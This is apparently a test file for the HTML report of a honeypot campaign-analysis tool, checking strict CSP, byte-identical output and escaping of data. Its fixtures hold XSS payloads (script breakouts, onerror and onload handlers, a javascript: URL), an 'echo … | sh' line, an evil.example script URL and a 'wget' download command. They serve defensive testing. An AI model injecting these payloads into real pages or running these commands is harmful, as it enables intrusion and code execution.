/**
 * The HTML report (src/report/): one self-contained file, no markup from data, same bytes
 * for the same Result. Its rendering in a browser is checked by `npm run e2e:report`
 * (test/e2e/report.e2e.ts, headless Chromium).
 */
import { describe, expect, test } from "bun:test"
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import * as Schema from "effect/Schema"
import { attackSession } from "./sessionFixture.ts"
import type { AttackSession } from "../../src/domain/AttackSession.ts"
import type { Campaign } from "../../src/domain/Campaign.ts"
import { Result } from "../../src/domain/Result.ts"
import { ReportExtrasCollector } from "../../src/report/extras.ts"
import { REPORT_CSP, type ReportData, renderReport, reportData } from "../../src/report/renderReport.ts"
import { runCli } from "../cli/helpers.ts"

const HOSTILE = {
  name: `</script><script>alert("name")</script><!--`,
  url: `http://evil.example/x.sh?a=</script><img src=x onerror=alert(1)>`,
  js: "javascript:alert(document.domain)",
  credential: `root/<b onmouseover=alert(2)>"'&amp;`,
  command: `echo '</SCRIPT ><svg/onload=alert(3)>' | sh; <!-- <script>`,
  runId: `run-"><script>alert(4)</script>`,
  path: `/logs/<iframe src="https://evil.example/">.json`
}

const campaign = (over: Partial<Campaign> & Pick<Campaign, "id" | "level" | "sessions">): Campaign => ({
  parent_id: null,
  name: HOSTILE.name,
  source_ips: ["198.51.100.7", "203.0.113.9"],
  first_seen: "2024-04-01T10:00:00.000Z",
  last_seen: "2024-04-02T12:30:00.000Z",
  confidence: 0.91,
  confidence_interval: [0.8, 0.97],
  assessment: "highly_coordinated",
  evidence: {
    temporal_correlation: { score: 0.4, p_value: 0.04, detail: `interquartile range <b>${HOSTILE.name}</b>` },
    payload_similarity: { score: 1, p_value: 1e-12, detail: "3 of 3 sessions share one payload" }
  },
  indicators: [
    { type: "url", value: HOSTILE.url },
    { type: "url", value: HOSTILE.js },
    { type: "credential", value: HOSTILE.credential },
    { type: "command", value: HOSTILE.command }
  ],
  ttps: ["T1105"],
  techniques: [{ id: "T1105", name: "Ingress Tool Transfer", sessions: 3, rules: [{ rule: "cmd.download", sessions: 3 }] }],
  formed_by: [{ kind: "download_url", links: 2 }],
  ...over
})

const crafted: Result = {
  schema: "dshield-coordination/result@1",
  run: {
    id: HOSTILE.runId,
    engine_version: "0.1.0",
    input_digest: "0".repeat(64),
    config_digest: "1".repeat(64),
    seed: 42,
    started_at: "2024-04-03T00:00:00.000Z",
    finished_at: "2024-04-03T00:00:01.000Z",
    attack_version: "enterprise-attack v17"
  },
  input: {
    files: [{ path: HOSTILE.path, format: "cowrie", sha256: "2".repeat(64), bytes: 100, lines: 10, events: 10 }],
    events: 10,
    sessions: 5,
    rejected: {}
  },
  campaigns: [
    campaign({ id: "c-family", level: "family", sessions: ["s1", "s2", "s3"] }),
    campaign({ id: "c-wave", parent_id: "c-family", level: "wave", sessions: ["s1", "s2"], last_seen: "2024-04-01T11:00:00.000Z" })
  ],
  unclustered_sessions: 2
}

const session = (id: string, start: string, commands: ReadonlyArray<string>): AttackSession => attackSession({ id, start, commands })

const sessions = [
  session("s1", "2024-04-01T10:00:00.000Z", [HOSTILE.command, "uname -a"]),
  session("s2", "2024-04-01T11:00:00.000Z", [HOSTILE.command]),
  session("s3", "2024-04-02T12:30:00.000Z", ["wget http://203.0.113.5/x"]),
  session("s4", "2024-04-02T13:00:00.000Z", [])
]

const extrasOf = (order: ReadonlyArray<AttackSession>) => {
  const collector = new ReportExtrasCollector()
  for (const s of order) collector.add(s)
  return collector.extras()
}

/** The markup of a page with the contents of its script and style elements removed. */
const markupOnly = (html: string): string =>
  html.replace(/(<script\b[^>]*>)[\s\S]*?(<\/script>)/gi, "$1$2").replace(/(<style\b[^>]*>)[\s\S]*?(<\/style>)/gi, "$1$2")

const dataBlock = (html: string): ReportData => {
  const m = /<script type="application\/json" id="report-data">([\s\S]*?)<\/script>/.exec(html)
  expect(m).not.toBeNull()
  return JSON.parse(m![1]!) as ReportData
}

describe("the HTML report", () => {
  test("the crafted Result is a valid Result v1", () => {
    expect(() => Schema.decodeUnknownSync(Result)(crafted)).not.toThrow()
  })

  const html = renderReport(crafted, extrasOf(sessions))

  test("is self-contained: a strict CSP, every script and style inline, no URL in src or href", () => {
    expect(html.startsWith("<!doctype html>")).toBe(true)
    expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="${REPORT_CSP}">`)
    expect(REPORT_CSP).toContain("default-src 'none'")
    const markup = markupOnly(html)
    expect(markup).not.toMatch(/\s(?:src|href|action|srcset|poster|data)\s*=/i)
    expect(markup).not.toMatch(/<(?:link|iframe|object|embed|img|base|form)\b/i)
    expect(markup).not.toMatch(/url\(/i)
    // Exactly the four script elements the renderer writes: the data, uPlot, Cytoscape, the report.
    expect(markup.match(/<script\b/gi)).toHaveLength(4)
    expect(html.match(/<\/script/gi)).toHaveLength(4)
    expect(markup.match(/<script>/g)).toHaveLength(3)
    // The libraries are in the file.
    expect(html).toContain("uPlot")
    expect(html).toContain("cytoscape")
  })

  test("hostile strings never appear unescaped, and come back intact from the data block", () => {
    for (const s of ["<script>alert", "<img src=x", "<svg/onload", "<b onmouseover", "<iframe", "<!-- <script>"]) {
      expect(html.toLowerCase()).not.toContain(s.toLowerCase())
    }
    expect(html).not.toMatch(/<\/script\s*><script>alert/i)
    // The title is escaped text.
    expect(html).toContain("<title>DShield campaigns — run-&quot;&gt;&lt;script&gt;alert(4)&lt;/script&gt;</title>")
    const data = dataBlock(html)
    expect(data.result).toEqual(crafted)
    expect(data.result.campaigns[0]!.indicators.map((i) => i.value)).toEqual([HOSTILE.url, HOSTILE.js, HOSTILE.credential, HOSTILE.command])
    expect(data.commands!.unmapped.map((c) => c.command)).toContain(HOSTILE.command)
  })

  test("the browser code builds the page with text only, never markup from data", () => {
    const code = readFileSync(new URL("../../src/report/browser/report.js", import.meta.url), "utf8").replace(/\/\*[\s\S]*?\*\//g, "")
    expect(code).not.toMatch(/innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function/)
    // Nothing the data holds becomes a link target.
    expect(code).not.toMatch(/\.href\s*=|setAttribute\(\s*["'](?:href|src)/)
  })

  test("the same Result gives the same bytes, whatever order the sessions came in", () => {
    expect(renderReport(structuredClone(crafted), extrasOf([...sessions].reverse()))).toBe(html)
    // A session shown twice (an input read again whole) counts once.
    expect(renderReport(crafted, extrasOf([...sessions, ...sessions]))).toBe(html)
    expect(renderReport(crafted)).toBe(renderReport(structuredClone(crafted)))
  })

  test("session times are aligned with each family's sessions; the command lines no rule maps are listed", () => {
    const data = reportData(crafted, extrasOf(sessions))
    const base = Date.parse("2024-04-01T10:00:00.000Z") / 1000
    expect(data.session_times).toEqual({ sessions_read: 4, families: { "c-family": { base, offsets: [0, 3600, 95400] } } })
    expect(data.commands!.distinct).toBe(3)
    expect(data.commands!.unmapped).toEqual([{ command: HOSTILE.command, sessions: 2 }])
    expect(data.commands!.mapped.map((c) => c.command).sort()).toEqual(["uname -a", "wget http://203.0.113.5/x"])
    // Made from a Result alone, the report has neither.
    expect(reportData(crafted)).toMatchObject({ session_times: null, commands: null })
  })
})

describe("analyze --html and report --html", () => {
  const tmp = mkdtempSync(join(tmpdir(), "dshield-report-"))
  const input = join(tmp, "gen")

  test("analyze --html writes the report with every session's start; report RESULT --logs writes the same bytes", () => {
    expect(runCli(["generate", "--sessions", "400", "--seed", "3", "--out", input, "--quiet"]).code).toBe(0)
    const analyzed = runCli(["analyze", join(input, "cowrie.json"), "--out", join(tmp, "result.json"), "--html", join(tmp, "a.html")])
    expect(analyzed.code).toBe(0)
    expect(analyzed.stderr).toMatch(/HTML report written to .*a\.html \(.* MiB, start times of 400 sessions\)/)
    const a = readFileSync(join(tmp, "a.html"), "utf8")
    const data = dataBlock(a)
    const families = data.result.campaigns.filter((c) => c.parent_id === null)
    expect(families.length).toBeGreaterThan(0)
    for (const f of families) {
      expect(data.session_times!.families[f.id]!.offsets).toHaveLength(f.sessions.length)
      expect(data.session_times!.families[f.id]!.offsets.every((o) => o >= 0)).toBe(true)
    }
    expect(data.commands).not.toBeNull()

    const again = runCli(["report", join(tmp, "result.json"), "--logs", join(input, "cowrie.json"), "--html", join(tmp, "b.html"), "--quiet"])
    expect(again.code).toBe(0)
    expect(readFileSync(join(tmp, "b.html"), "utf8")).toBe(a)

    // Read on an ingest thread, the sessions reach the report the same way.
    process.env.DSHIELD_INGEST_THREAD = "1"
    try {
      expect(runCli(["analyze", join(input, "cowrie.json"), "--html", join(tmp, "t.html"), "--quiet"]).code).toBe(0)
    } finally {
      delete process.env.DSHIELD_INGEST_THREAD
    }
    const threaded = dataBlock(readFileSync(join(tmp, "t.html"), "utf8"))
    expect(threaded.session_times).toEqual(data.session_times)
    expect(threaded.commands).toEqual(data.commands)

    const plain = runCli(["report", join(tmp, "result.json"), "--html", join(tmp, "c.html")])
    expect(plain.code).toBe(0)
    expect(plain.stderr).toContain("timelines from campaign spans")
    expect(dataBlock(readFileSync(join(tmp, "c.html"), "utf8"))).toMatchObject({ session_times: null, commands: null })
  }, 120_000)

  test("report --logs refuses logs the Result was not made from, and warns when they hold only part of it", () => {
    // The Result of the test above (400 generated sessions, seed 3) against other logs.
    const other = join(tmp, "other")
    expect(runCli(["generate", "--sessions", "300", "--seed", "4", "--out", other, "--quiet"]).code).toBe(0)
    const wrong = runCli(["report", join(tmp, "result.json"), "--logs", join(other, "cowrie.json"), "--html", join(tmp, "w.html")])
    expect(wrong.code).toBe(2)
    expect(wrong.stderr).toMatch(/None of the \d+ sessions of .*result\.json's campaigns is in the logs given with --logs; give the logs .*result\.json was made from\./)
    expect(existsSync(join(tmp, "w.html"))).toBe(false)
    // The first half of the right log: the report is written, with a warning naming how many are missing.
    const lines = readFileSync(join(input, "cowrie.json"), "utf8").split("\n")
    writeFileSync(join(tmp, "half.json"), lines.slice(0, lines.length >> 1).join("\n"))
    const part = runCli(["report", join(tmp, "result.json"), "--logs", join(tmp, "half.json"), "--html", join(tmp, "h.html")])
    expect(part.code).toBe(0)
    expect(part.stderr).toMatch(/Warning: \d+ of the \d+ sessions of .*result\.json's campaigns are not in the logs given with --logs/)
    expect(existsSync(join(tmp, "h.html"))).toBe(true)
  }, 60_000)

  test("report refuses what is not a Result, and needs --html", () => {
    expect(runCli(["report", join(tmp, "nothing.json"), "--html", join(tmp, "x.html")]).code).toBe(2)
    const r = runCli(["report", "README.md"])
    expect(r.code).toBe(2)
    expect(r.stderr).toContain("--html")
    expect(runCli(["report", "--help"]).stdout).toContain("Usage:")
  })
})
